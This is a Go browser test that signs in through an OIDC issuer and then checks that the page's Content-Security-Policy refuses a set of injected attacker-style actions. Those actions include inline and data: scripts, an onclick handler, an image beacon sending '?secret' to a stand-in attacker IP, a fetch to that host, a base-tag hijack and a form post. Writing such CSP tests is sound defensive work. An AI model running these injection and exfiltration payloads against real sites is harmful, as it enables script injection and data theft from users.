package browser

import (
	"testing"

	"github.com/stretchr/testify/require"

	"fleet/internal/app"
)

// TestPolicy signs in with an issuer. The Content-Security-Policy must allow this; a violation would be an error of the page. Then the
// test acts like the script of an attacker. The policy must refuse all of it.
func TestPolicy(t *testing.T) {
	t.Parallel()
	s, issuer := serveIssuer(t, app.AuthTokens, app.AuthOIDC)
	b := openAt(t, s.home, "/")
	b.allowErrors("401") // the page has no session to refresh yet
	b.press("Sign in with " + issuer.URL[len("http://"):])
	b.press("Continue as alice")
	b.waitForText("No agents yet")

	b.allowErrors("Content Security Policy")
	b.allowErrors("ERR_BLOCKED_BY_CSP")
	eval[bool](b, `(() => {
		window.refused = []
		addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))
		const add = (name, set) => { const e = document.createElement(name); Object.assign(e, set); document.body.append(e); return e }
		add('script', {textContent: 'window.owned = 1'})
		add('script', {src: 'data:text/javascript,window.owned=1'})
		add('img', {src: 'http://192.0.2.1/?secret'})
		add('iframe', {src: '/'})
		add('base', {href: 'http://192.0.2.1/'})
		add('style', {textContent: 'body { color: red }'})
		add('p', {}).setAttribute('style', 'color: red')
		const clicked = add('p', {})
		clicked.setAttribute('onclick', 'window.owned = 1')
		clicked.click() // only then, new versions of Chromium look at the attribute
		add('form', {action: '/session', method: 'post'}).submit()
		fetch('http://192.0.2.1/').catch(() => {})
		setTimeout('window.owned = 1')
		return true
	})()`)
	for _, directive := range []string{"script-src-elem", "script-src-attr", "script-src", "img-src", "frame-src", "base-uri", "style-src-elem", "style-src-attr", "form-action", "connect-src"} {
		require.NoError(t, b.waitUntil(`directive => window.refused.includes(directive)`, directive), "%s has refused nothing", directive)
	}
	require.False(t, eval[bool](b, `'owned' in window`))
}
